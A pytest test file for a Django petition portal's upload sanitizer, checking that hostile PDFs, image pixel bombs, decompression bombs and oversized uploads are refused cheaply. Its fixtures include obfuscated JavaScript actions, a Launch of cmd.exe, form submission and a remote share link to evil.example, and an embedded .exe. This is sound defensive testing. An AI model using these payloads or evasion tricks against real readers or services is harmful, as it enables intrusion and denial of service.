"""Hostile uploads are refused cheaply (issue 13, point 3).

Every hostile file is built here by hand, byte by byte, so the test itself costs
nothing and says exactly what it sends. Each refusal must take under a second of
the processor and under 100 MB: Python's allocations by tracemalloc, and the C
libraries' (Pillow, qpdf) by the process's peak resident memory, reset before each
measure (Linux). The wall clock (perf_counter) gets three seconds, because the test
machine's two cores are shared and a busy neighbour is not our cost.
"""
from __future__ import annotations

import gc
import io
import struct
import time
import tracemalloc
import zlib
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from lib.upload_handlers import OversizedUpload
from lib.uploads import UploadRejected, clean_upload
from petitions.models import Attachment, Petition

MB = 1024 * 1024
LIMIT = 10 * MB
SECOND = 1.0
MEMORY = 100 * MB


# --- Measuring --------------------------------------------------------------------------------


@dataclass
class Cost:
    seconds: float = 0.0
    cpu_seconds: float = 0.0
    python_peak: int = 0
    rss_growth: int | None = None  # None where the peak cannot be reset


def _status_kb(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise LookupError(field)


def _reset_peak_rss() -> bool:
    try:
        Path("/proc/self/clear_refs").write_text("5")  # Linux: the peak (VmHWM) restarts from now
        return True
    except OSError:
        return False


@contextmanager
def cost():
    gc.collect()
    measured = Cost()
    resettable = _reset_peak_rss()
    base = _status_kb("VmRSS") if resettable else 0
    tracemalloc.start()
    started, started_cpu = time.perf_counter(), time.process_time()
    try:
        yield measured
    finally:
        measured.seconds = time.perf_counter() - started
        measured.cpu_seconds = time.process_time() - started_cpu
        measured.python_peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        if resettable:
            measured.rss_growth = (_status_kb("VmHWM") - base) * 1024


def assert_cheap(measured: Cost):
    assert measured.cpu_seconds < SECOND and measured.seconds < 3 * SECOND, measured
    assert measured.python_peak < MEMORY, measured
    assert measured.rss_growth is None or measured.rss_growth < MEMORY, measured


def refusal(name: str, data: bytes) -> tuple[str, Cost]:
    with cost() as measured:
        with pytest.raises(UploadRejected) as rejected:
            clean_upload(name, data, max_bytes=LIMIT)
    return str(rejected.value), measured


# --- PDFs built by hand --------------------------------------------------------------------------

JS_CODE = b"app.alert('owned'); this.exportDataObject({cName: 'a.exe', nLaunch: 2});"
PAGE_CONTENT = b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def base_objects(catalog: bytes = b"", page: bytes = b"") -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        4: stream(PAGE_CONTENT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def pdf(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table and true offsets."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
    return bytes(out)


def deflate(data: bytes, padding: bytes = b"", megabytes: int = 0) -> bytes:
    """`data`, then `megabytes` of `padding`, compressed a megabyte at a time (cheap to build)."""
    compressor = zlib.compressobj(9)
    return compressor.compress(data) + b"".join(
        compressor.compress(padding * MB) for _ in range(megabytes)) + compressor.flush()


def pdf_with_object_stream(objects: dict[int, bytes], packed: dict[int, bytes], *, objstm_padding_mb: int = 0,
                           xref_padding_mb: int = 0) -> bytes:
    """PDF 1.5: the `packed` objects inside a compressed object stream, found through a compressed
    cross-reference stream; either may be padded with megabytes that only cost when inflated."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries = {0: (0, 0, 0xFFFF)}
    for number in sorted(objects):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    objstm_number = max([*objects, *packed]) + 1
    if packed:
        index, bodies = [], b""
        for position, number in enumerate(sorted(packed)):
            index.append(b"%d %d" % (number, len(bodies)))
            bodies += packed[number] + b"\n"
            entries[number] = (2, objstm_number, position)
        head = b" ".join(index) + b"\n"
        entries[objstm_number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % objstm_number + stream(
            deflate(head + bodies, b" ", objstm_padding_mb),
            b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(head)),
        ) + b"\nendobj\n"
    xref_number = objstm_number + 1
    xref = len(out)
    entries[xref_number] = (1, xref, 0)
    rows = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 0))) for number in range(xref_number + 1))
    out += b"%d 0 obj\n" % xref_number + stream(
        deflate(rows, b"\x00", xref_padding_mb),
        b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (xref_number + 1),
    ) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /Border [0 0 0] /A " + action + b" >>"


def with_annotation(annotation: bytes, catalog: bytes = b"", more: dict[int, bytes] | None = None) -> bytes:
    return pdf({**base_objects(catalog=catalog, page=b"/Annots [10 0 R]"), 10: annotation, **(more or {})})


def embedded_file_spec() -> dict[int, bytes]:
    return {
        11: b"<< /Type /Filespec /F (invoice.pdf.exe) /UF (invoice.pdf.exe) /EF << /F 12 0 R >> >>",
        12: stream(b"MZ\x90\x00 pretend this is a program", b"/Type /EmbeddedFile"),
    }


def pdf_object_stream_javascript() -> bytes:
    """The page-open JavaScript of issue 13, its action inside a compressed object stream and
    its code in a compressed stream: not one of its words is in the file's bytes."""
    objects = base_objects(page=b"/AA << /O 10 0 R >>")
    objects[11] = stream(zlib.compress(JS_CODE), b"/Filter /FlateDecode")
    return pdf_with_object_stream(objects, {10: b"<< /Type /Action /S /JavaScript /JS 11 0 R >>"})


HEX_JS = b"<" + JS_CODE.hex().encode() + b">"  # written right after /JS, no space, as in issue 13

HOSTILE_PDFS = {
    # Issue 13: the page-open action written /J#61vaScript, its code in hex.
    "page-open-escaped-name-hex-code": pdf(base_objects(page=b"/AA << /O << /S /J#61vaScript /JS" + HEX_JS + b" >> >>")),
    "open-action-escaped-everywhere": pdf(base_objects(
        catalog=b"/#4Fpen#41ction << /#53 /#4A#61v#61#53cript /#4A#53 " + HEX_JS + b" >>")),
    "object-stream-compressed-javascript": pdf_object_stream_javascript(),
    "document-javascript-name-tree": pdf(base_objects(
        catalog=b"/Names << /JavaScript << /Names [(init) 10 0 R] >> >>") | {10: b"<< /S /JavaScript /JS 11 0 R >>",
                                                                          11: stream(JS_CODE)}),
    "launch-on-page-open": pdf(base_objects(page=b"/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>")),
    "submitform-link": with_annotation(link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>")),
    "importdata-on-form-field": with_annotation(
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 90 30] /P 3 0 R "
        b"/AA << /K << /S /ImportData /F (data.fdf) >> >> >>",
        catalog=b"/AcroForm << /Fields [10 0 R] >>"),
    "javascript-uri-link": with_annotation(link(b"<< /S /URI /URI (\t JavaScript:app.alert\\(1\\)) >>")),
    "javascript-uri-hex": with_annotation(link(b"<< /S /URI /URI <" + b"javascript:alert(1)".hex().encode() + b"> >>")),
    "file-uri-link": with_annotation(link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")),
    "gotor-to-a-share": with_annotation(link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
    "gotoe-into-attachment": with_annotation(link(b"<< /S /GoToE /T << /R /C /N (payload) >> /D [0 /Fit] >>")),
    "chained-after-a-harmless-jump": pdf(base_objects(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (app.alert\\(1\\)) >>] >>")),
    "embedded-file": pdf(base_objects(catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.pdf.exe) 11 0 R] >> >>")
                         | embedded_file_spec()),
    "file-attachment-annotation": with_annotation(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 11 0 R >>", more=embedded_file_spec()),
    "xfa-form-with-script": pdf(base_objects(catalog=b"/AcroForm << /Fields [] /XFA 10 0 R >>") | {10: stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>')}),
}


def normal_pdf() -> bytes:
    """What a citizen sends: a letter with its author, a web link, an outline, a page label, a
    transparency group, and the common "open at page 1" (a destination, not a script)."""
    return pdf({
        **base_objects(
            catalog=b"/OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /S /D >>] >> /Outlines 20 0 R",
            page=b"/Annots [10 0 R] /Group << /S /Transparency /CS /DeviceRGB >>"),
        10: link(b"<< /S /URI /URI (https://www.example.gov.cn/notice) >>"),
        13: b"<< /Title (Letter to the hotline) /Author (Secret Person) /Producer (Phone Scanner 2.1) >>",
        20: b"<< /Type /Outlines /First 21 0 R /Last 21 0 R /Count 1 >>",
        21: b"<< /Title (Page 1) /Parent 20 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
    }, trailer=b"/Info 13 0 R")


def open_pdf(data: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(data))


# --- The PDF tests ---------------------------------------------------------------------------------


def test_the_hand_built_files_are_what_they_claim():
    """The hostile files are valid PDFs (qpdf reads them without repair) and hide their words from a byte filter."""
    for name, data in {**HOSTILE_PDFS, "normal": normal_pdf()}.items():
        with open_pdf(data) as document:
            assert len(document.pages) == 1, name
            assert not document.get_warnings(), (name, document.get_warnings())
    assert b"javascript" not in HOSTILE_PDFS["page-open-escaped-name-hex-code"].lower()
    hidden = HOSTILE_PDFS["object-stream-compressed-javascript"].lower()
    assert b"javascript" not in hidden and b"/js" not in hidden and b"alert" not in hidden


@pytest.mark.parametrize("name", HOSTILE_PDFS)
def test_hostile_pdf_is_refused_cheaply(name):
    reason, measured = refusal("letter.pdf", HOSTILE_PDFS[name])
    assert reason == "active_content"
    assert_cheap(measured)


@pytest.mark.parametrize("user_password", ["open-sesame", ""])
def test_encrypted_pdf_is_refused(user_password):
    out = io.BytesIO()
    with open_pdf(normal_pdf()) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))
    reason, measured = refusal("letter.pdf", out.getvalue())
    assert reason == "encrypted"
    assert_cheap(measured)


def test_normal_pdf_passes_and_comes_out_cleaned():
    with cost() as measured:
        cleaned = clean_upload("letter.pdf", normal_pdf(), max_bytes=LIMIT)
    assert_cheap(measured)
    assert (cleaned.content_type, cleaned.extension) == ("application/pdf", ".pdf")
    assert b"Secret Person" not in cleaned.content and b"Phone Scanner" not in cleaned.content
    with open_pdf(cleaned.content) as document:
        assert len(document.pages) == 1
        page = document.pages[0]
        assert b"(Hello) Tj" in page.Contents.read_bytes()
        assert str(page.Annots[0].A.URI) == "https://www.example.gov.cn/notice"  # a web link still works
        assert str(document.Root.Outlines.First.A.S) == "/GoTo"
        assert "/Info" not in document.trailer and "/OpenAction" not in document.Root


def test_harmless_actions_and_hooks_are_removed_not_refused():
    """A hook with a plain jump in it, a named page turn, a reset button: removed, the file accepted."""
    data = pdf({
        **base_objects(catalog=b"/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>", page=b"/Annots [10 0 R 11 0 R]"),
        10: link(b"<< /S /Named /N /NextPage >>"),
        11: link(b"<< /S /ResetForm >>"),
    })
    cleaned = clean_upload("form.pdf", data, max_bytes=LIMIT).content
    with open_pdf(cleaned) as document:
        assert "/AA" not in document.Root
        assert all("/A" not in annotation for annotation in document.pages[0].Annots)


def test_a_cleaned_file_that_still_carries_an_action_is_refused(monkeypatch):
    """The output is read and walked again: if cleaning misses something, the file is refused."""
    import lib.uploads

    data = pdf(base_objects(catalog=b"/OpenAction << /S /Named /N /Print >>"))
    assert clean_upload("letter.pdf", data, max_bytes=LIMIT)
    monkeypatch.setattr(lib.uploads, "_strip_active_content", lambda document: None)
    with pytest.raises(UploadRejected, match="active_content"):
        clean_upload("letter.pdf", data, max_bytes=LIMIT)


def test_a_pdf_with_too_many_objects_is_refused_before_it_is_walked():
    many = {number: b"<< /N %d >>" % number for number in range(10, 10_020)}
    data = pdf(base_objects(catalog=b"/Extra [" + b" ".join(b"%d 0 R" % n for n in many) + b"]") | many)
    reason, measured = refusal("letter.pdf", data)
    assert reason == "too_complex"
    assert_cheap(measured)


def test_an_object_stream_that_inflates_to_200_mb_is_refused_before_qpdf_inflates_it():
    """A 200 KB file whose object stream asks for 200 MB (a 10 MB one would ask for 10 GB)."""
    data = pdf_with_object_stream(base_objects(catalog=b"/Extra 10 0 R"), {10: b"<< /N 1 >>"}, objstm_padding_mb=200)
    assert len(data) < 300 * 1024
    reason, measured = refusal("letter.pdf", data)
    assert reason == "too_complex"
    assert_cheap(measured)


def test_a_cross_reference_stream_that_inflates_to_300_mb_stays_under_100_mb():
    """qpdf inflates the cross-reference stream on opening, before any check can run: the memory
    ceiling stops it (qpdf then rebuilds the table from the objects, and the harmless page passes)."""
    data = pdf_with_object_stream(base_objects(), {}, xref_padding_mb=300)
    assert len(data) < 400 * 1024
    with cost() as measured:
        try:
            cleaned = clean_upload("letter.pdf", data, max_bytes=LIMIT).content
        except UploadRejected as rejected:
            assert str(rejected) in ("too_complex", "corrupt")
        else:
            with open_pdf(cleaned) as document:
                assert len(document.pages) == 1
    assert_cheap(measured)


def test_damaged_pdf_is_refused():
    reason, measured = refusal("letter.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 100)
    assert reason == "corrupt"
    assert_cheap(measured)


# --- Images ------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_one_colour(width: int, height: int) -> bytes:
    """A real, complete RGB PNG, black, compressed row by row so building it stays cheap."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + 3 * width)  # filter byte, then the pixels
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def jpeg_header_only(width: int, height: int) -> bytes:
    """The start of a baseline JPEG that claims these dimensions; no pixels follow."""
    sof = struct.pack(">BHHB", 8, height, width, 3) + b"".join(struct.pack(">BBB", c, 0x11, 0) for c in (1, 2, 3))
    sos = struct.pack(">B", 3) + b"".join(struct.pack(">BB", c, 0) for c in (1, 2, 3)) + b"\x00\x3f\x00"
    segment = lambda marker, body: marker + struct.pack(">H", len(body) + 2) + body  # noqa: E731
    return b"\xff\xd8" + segment(b"\xff\xc0", sof) + segment(b"\xff\xda", sos) + b"\x00" * 64 + b"\xff\xd9"


@pytest.fixture(scope="module")
def issue_13_png() -> bytes:
    data = png_of_one_colour(6300, 6300)
    assert len(data) < 200 * 1024  # the 170 KB file of issue 13
    return data


def test_the_big_pixel_png_of_issue_13_is_refused_cheaply(issue_13_png):
    reason, measured = refusal("photo.png", issue_13_png)
    assert reason == "too_many_pixels"
    assert_cheap(measured)


@pytest.mark.parametrize("name,width,height", [
    ("photo.png", 5000, 5000),  # inside the pixel budget, but 75 MB to decode for a 75 KB file
    ("photo.png", 12_000, 20),  # one side too long
])
def test_decode_and_side_budgets(name, width, height):
    reason, measured = refusal(name, png_of_one_colour(width, height))
    assert reason == "too_many_pixels"
    assert_cheap(measured)


def test_a_jpeg_header_claiming_81_megapixels_is_refused_before_decoding():
    reason, measured = refusal("photo.jpg", jpeg_header_only(9000, 9000))
    assert reason == "too_many_pixels"
    assert_cheap(measured)


def photo_on_its_side() -> bytes:
    """A phone photo: 40 x 30 stored, EXIF orientation 6 (shown 30 x 40), a maker and a GPS position."""
    image = Image.new("RGB", (40, 30), "red")
    image.paste((0, 0, 255), (0, 0, 10, 30))  # the left band shows on top once turned upright
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90 CW to display
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "N", 2: (36.0, 4.0, 0.0), 3: "E", 4: (120.0, 23.0, 0.0)}
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif, quality=95)
    return out.getvalue()


def test_normal_photo_passes_upright_and_without_exif():
    with cost() as measured:
        cleaned = clean_upload("photo.jpg", photo_on_its_side(), max_bytes=LIMIT)
    assert_cheap(measured)
    image = Image.open(io.BytesIO(cleaned.content))
    assert image.size == (30, 40)  # turned upright
    r, g, b = image.getpixel((15, 2))
    assert b > 200 and r < 60  # the blue band is now on top
    assert not image.getexif() and "exif" not in image.info
    assert b"PhoneMaker" not in cleaned.content


def test_a_large_real_photo_still_passes():
    """12 MP of noise-like content (a real photo compresses about this badly): well within the budgets."""
    image = Image.effect_noise((4000, 3000), 64).convert("RGB")
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=85)
    cleaned = clean_upload("photo.jpg", out.getvalue(), max_bytes=LIMIT)
    assert Image.open(io.BytesIO(cleaned.content)).size == (4000, 3000)


# --- Size, while streaming ----------------------------------------------------------------------------

BOUNDARY = "----hostile-boundary-1234"


class MultipartBody(io.RawIOBase):
    """A multipart POST body with one file of `size` zero bytes, produced as it is read."""

    def __init__(self, fields: dict[str, str], file_name: str, size: int):
        head = b"".join(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
            for key, value in fields.items()
        )
        head += (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="attachments"; filename="{file_name}"\r\n'
                 f"Content-Type: image/jpeg\r\n\r\n").encode() + b"\xff\xd8\xff\xe0"
        self.parts = [head, size - 4, f"\r\n--{BOUNDARY}--\r\n".encode()]
        self.length = len(head) + size - 4 + len(self.parts[2])

    def readable(self):
        return True

    def readinto(self, buffer):
        while self.parts:
            part = self.parts[0]
            if isinstance(part, int):  # zeros still to send
                n = min(len(buffer), part)
                buffer[:n] = bytes(n)
                self.parts[0] -= n
                if self.parts[0] == 0:
                    self.parts.pop(0)
                return n
            if part:
                n = min(len(buffer), len(part))
                buffer[:n] = part[:n]
                self.parts[0] = part[n:]
                return n
            self.parts.pop(0)
        return 0


def wsgi_post(body: MultipartBody):
    from django.core.handlers.wsgi import WSGIRequest

    return WSGIRequest({
        "REQUEST_METHOD": "POST", "PATH_INFO": "/petitions/new/", "SERVER_NAME": "testserver", "SERVER_PORT": "80",
        "wsgi.input": io.BufferedReader(body, 64 * 1024), "wsgi.url_scheme": "http",
        "CONTENT_TYPE": f"multipart/form-data; boundary={BOUNDARY}", "CONTENT_LENGTH": str(body.length),
    })


@pytest.mark.django_db
def test_a_100_mb_upload_is_refused_as_it_streams(city, settings, tmp_path):
    """The real request path: the settings' upload handlers, then the citizen's form."""
    from petitions.forms import CitizenPetitionForm
    from tests.petitions.test_citizen_form import form_data

    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    body = MultipartBody({k: str(v) for k, v in form_data(city).items()}, "huge.jpg", 100 * MB)
    request = wsgi_post(body)
    with cost() as measured:
        files = request.FILES
    assert_cheap(measured)
    assert measured.python_peak < 2 * MB  # 64 KB chunks, never the file
    assert not any(body.parts)  # all of it was read (and dropped)
    upload = files["attachments"]
    assert isinstance(upload, OversizedUpload) and upload.name == "huge.jpg"
    assert list(tmp_path.iterdir()) == []  # the temporary file that took the first 10 MB is gone
    with pytest.raises(ValidationError, match="文件超过 10.0"):
        upload.read()
    form = CitizenPetitionForm(request.POST, request.FILES)
    with cost() as measured:
        assert not form.is_valid()
    assert_cheap(measured)
    assert "huge.jpg：文件超过 10.0" in str(form.errors["attachments"])
    assert list(form.errors) == ["attachments"]  # the fields after the file arrived too


def test_a_file_within_the_limit_streams_through(settings, tmp_path):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    body = MultipartBody({"title": "x"}, "fine.jpg", 3 * MB)
    upload = wsgi_post(body).FILES["attachments"]
    assert not isinstance(upload, OversizedUpload) and upload.size == 3 * MB


# --- On the citizen's form -----------------------------------------------------------------------------

URL = "/petitions/new/"


def _stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.django_db
@pytest.mark.parametrize("name,content,message", [
    ("letter.pdf", HOSTILE_PDFS["page-open-escaped-name-hex-code"], "不接受含脚本或动作的 PDF 文件"),
    ("letter.pdf", HOSTILE_PDFS["object-stream-compressed-javascript"], "不接受含脚本或动作的 PDF 文件"),
    ("letter.pdf", HOSTILE_PDFS["embedded-file"], "不接受含脚本或动作的 PDF 文件"),
    ("photo.png", None, "图片尺寸过大"),
], ids=["escaped-javascript", "object-stream-javascript", "embedded-file", "big-pixel-png"])
def test_hostile_file_on_the_citizens_form_gives_the_field_error_and_stores_nothing(
        client, city, settings, issue_13_png, name, content, message):
    from tests.petitions.test_citizen_form import form_data

    upload = SimpleUploadedFile(name, content if content is not None else issue_13_png)
    good = SimpleUploadedFile("photo.jpg", photo_on_its_side())
    response = client.post(URL, {**form_data(city), "attachments": [good, upload]}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 400
    errors = response.context["form"].errors
    assert list(errors) == ["attachments"] and message in str(errors["attachments"]) and name in str(errors["attachments"])
    assert Petition.objects.count() == 0 and Attachment.objects.count() == 0
    assert _stored_files(settings) == []


@pytest.mark.django_db
def test_oversized_file_on_the_citizens_form_is_refused_in_chinese(client, city, settings):
    from tests.petitions.test_citizen_form import form_data

    settings.PORTAL_UPLOAD_MAX_BYTES = 64 * 1024
    upload = SimpleUploadedFile("scan.pdf", normal_pdf() + b"%" * (200 * 1024))
    response = client.post(URL, {**form_data(city), "attachments": [upload]}, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 400
    assert "scan.pdf：文件超过 64.0\xa0KB" in str(response.context["form"].errors["attachments"])
    assert Petition.objects.count() == 0 and _stored_files(settings) == []
